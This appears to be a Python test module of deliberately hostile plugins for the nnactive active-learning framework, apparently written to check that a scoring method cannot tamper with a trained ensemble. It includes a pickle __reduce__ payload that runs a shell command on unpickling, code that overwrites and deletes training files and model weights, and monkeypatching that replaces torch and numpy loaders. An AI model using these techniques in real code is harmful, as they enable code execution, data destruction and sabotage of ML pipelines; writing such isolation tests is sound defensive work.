"""Attacks of methods that get the trained ensemble."""

import os
import pickle
from contextlib import suppress
from pathlib import Path

from nnactive.methods import BUILTIN

Entropy = BUILTIN["predictive_entropy"]


class Planted:
    """Runs code when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch /tmp/PWNED",)


class SpoilsMembers(Entropy):
    """Overwrites the networks and the training folder that it may read."""

    class Parameters(Entropy.Parameters):
        runs: str = "/results"
        data: str = "/data"
        train: str = "/results"

    def score(self, prediction):
        folder = Path(self.parameters.train)
        for path in (*folder.rglob("*"), *folder.parent.glob("*.pth")):
            with suppress(OSError):
                path.chmod(0o666)
            with suppress(OSError):
                path.write_bytes(pickle.dumps(Planted()))
            with suppress(OSError):
                path.unlink()
        return super().score(prediction)


class ReplacesTorch(Entropy):
    """Replaces what loads networks and tables, while the ensemble is at work."""

    class Parameters(Entropy.Parameters):
        runs: str = "/results"
        data: str = "/data"

    def score(self, prediction):
        import numpy as np
        import torch

        score = super().score(prediction)
        torch.load = torch.save = np.load = pickle.loads = lambda *_, **__: Planted()
        torch.nn.Module.__call__ = lambda *_, **__: None
        return score
